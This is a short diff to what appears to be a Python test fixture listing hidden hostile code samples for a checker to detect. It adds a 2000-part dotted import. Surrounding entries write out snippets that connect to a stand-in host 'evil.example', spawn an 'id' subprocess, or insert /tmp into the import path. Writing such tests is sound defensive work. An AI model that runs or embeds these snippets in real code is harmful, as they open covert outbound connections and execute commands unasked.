@@ -40,6 +40,7 @@ HIDDEN = {
     "a path to import from": f"import sys\nsys.path.insert(0, '/tmp')\n{USES}{{}}\n",
     "a log that calls out": f"import logging.handlers\n{USES}logging.handlers.SocketHandler('evil.example', 80)\n",
     "a loop that calls out": f"{USES}inputs['loop'].create_connection(None, 'evil.example', 80)\n",
+    "a name of two thousand parts": f"import a{'.b' * 2000}\n{USES}{{}}\n",  # and nobody is kept busy by it
     "a loop that starts": f"{USES}inputs['loop'].subprocess_exec(None, 'id')\n",
 }
 HONEST = {
